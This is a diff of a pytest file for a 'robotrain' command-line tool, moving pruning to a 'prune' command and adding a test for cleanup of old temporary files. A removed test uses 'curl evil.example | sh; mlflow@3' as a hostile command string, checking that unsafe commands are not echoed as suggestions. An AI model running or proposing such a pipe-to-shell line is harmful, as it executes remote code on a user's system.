@@ -1,4 +1,4 @@
-"""`runs --prune`: what would go is shown first, what is confirmed goes, and the exit code tells when one could not."""
+"""`prune`: what would go is shown first, what is confirmed goes, and the exit code tells when one could not."""
 
 import io
 import json
@@ -8,7 +8,7 @@ import time
 
 import pytest
 from robotrain.cli import arguments
-from robotrain.store import records
+from robotrain.store import files, records
 from scripted_runs import record
 
 DAY = 24 * 3600
@@ -16,8 +16,8 @@ DAY = 24 * 3600
 
 @pytest.fixture
 def prune(robotrain):
-    """`runs --prune …`."""
-    return lambda *words: robotrain("runs", "--prune", *words)
+    """`prune …`."""
+    return lambda *words: robotrain("prune", *words)
 
 
 @pytest.fixture
@@ -204,39 +204,6 @@ def test_dry_run_removes_nothing_even_with_yes(prune, record_old_run, words):
     assert records.list_runs() == ["old-1"]
 
 
-@pytest.mark.parametrize(
-    ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
-)
-def test_lines_that_remove_a_run_from_mlflow_are_printed_if_its_command_is_known(
-    prune, record_old_run, scripted, tmp_path, program, is_said, monkeypatch
-):
-    (tmp_path / "bin").mkdir()
-    (tmp_path / "bin/uvx").write_text("#!/bin/sh\n")
-    (tmp_path / "bin/uvx").chmod(0o755)
-    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
-    uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
-    artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
-    artifacts.mkdir(parents=True)
-    (tmp_path / "tracked" / "mlflow.db").touch()
-    (artifacts / "model").write_bytes(os.urandom(2_000_000))
-    fields = {"event": "tracking", "uri": uri, "experiment_id": "1", "run_id": run_id}
-    started = f"{program} ui --backend-store-uri {uri}"
-    scripted.platform("far", features='{"runs_here": YES}')
-    for run in ("old-1", "older-1"):
-        made = record_old_run(run, days=40, platform="far")
-        made.log(f"::robotrain:: {json.dumps(fields | {'time': 1.0, 'ui': started})}")
-    answer = prune("old-1", "--yes", "--json")
-    assert [(tracked_run["run"], tracked_run["run_id"]) for tracked_run in answer.json["tracked"]] == [
-        ("old-1", run_id)
-    ] * is_said
-    assert ("2.0 MB" in answer.stderr) == is_said
-    assert (f"{program} runs delete --run-id {run_id}\n" in answer.stderr) == is_said
-    assert (f"{program} gc --tracking-uri {uri} --backend-store-uri {uri} --run-ids {run_id}" in answer.stderr) == (
-        is_said
-    )
-    assert "MLflow" not in prune("older-1").stderr  # nothing was removed
-
-
 def test_json_of_a_removal(prune, record_old_run):
     record_old_run("old-1", days=40)
     record_old_run("busy-1", days=40, state="running")
@@ -252,14 +219,32 @@ def test_json_of_a_removal(prune, record_old_run):
 @pytest.mark.parametrize(
     ("options", "problem"),
     [
-        (("--older-than", "30d"), "usage"),
-        (("-y",), "usage"),
-        (("--prune", "--keep", 0, "-n", 3), "usage"),
-        (("--prune", "--yes"), "usage"),
-        (("--prune", "--yes", "--older-than", "long"), "value-invalid --older-than long"),
+        (("--yes",), "usage"),
+        (("--yes", "--older-than", "long"), "value-invalid --older-than long"),
     ],
 )
 def test_wrong_options_are_refused_and_nothing_is_removed(robotrain, record_old_run, options, problem):
     record_old_run("old-1", days=40)
-    robotrain("runs", *options).check_problems(2, problem)
+    robotrain("prune", *options).check_problems(2, problem)
     assert records.list_runs() == ["old-1"]
+
+
+def test_old_temporary_files_are_removed(robotrain, record_old_run):
+    record_old_run("a-1", days=1)
+    state = files.get_state_folder()
+    old, new = records.get_run_folder("a-1") / ".record-old.tmp", records.get_run_folder("a-1") / ".record-new.tmp"
+    folder = state / "runs" / ".b-1.4711"
+    folder.mkdir()
+    payload = state / "payloads" / ("0" * 64 + ".zip")
+    payload.parent.mkdir()
+    used_payload = state / "payloads" / ("1" * 64 + ".zip")
+    for file in (old, new, folder / "record.json", payload, used_payload):
+        file.write_text("x")
+    os.link(used_payload, records.get_run_folder("a-1") / "payload.zip")
+    for path in (old, folder, payload, used_payload):
+        os.utime(path, (1, 1))
+    robotrain("prune", "--keep", "5", "--dry-run").check(0)
+    assert old.exists()
+    robotrain("prune", "--keep", "5").check(0, "removed 3 temporary files")
+    assert [path.exists() for path in (old, folder, payload, new, used_payload)] == [False, False, False, True, True]
+    assert records.read_record("a-1").run == "a-1"
